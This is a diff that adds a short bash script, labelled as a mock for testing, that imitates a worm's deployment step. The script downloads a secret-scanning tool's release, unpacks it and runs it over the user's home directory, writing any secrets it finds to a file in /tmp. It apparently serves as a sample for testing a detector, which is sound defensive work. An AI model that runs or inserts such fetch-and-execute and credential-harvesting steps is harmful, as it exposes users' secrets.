@@ -0,0 +1,9 @@
+#!/bin/bash
+# MOCK malicious script - FOR TESTING ONLY
+# Mimics the Shai-Hulud 2.0 trufflehog deployment step
+
+# Release download followed by execution
+wget -q https://github.com/trufflesecurity/trufflehog/releases/download/v3.63.2/trufflehog_3.63.2_linux_amd64.tar.gz -O /tmp/th.tar.gz
+tar -xzf /tmp/th.tar.gz -C /tmp
+chmod +x /tmp/trufflehog
+/tmp/trufflehog filesystem "$HOME" --json > /tmp/truffleSecrets.json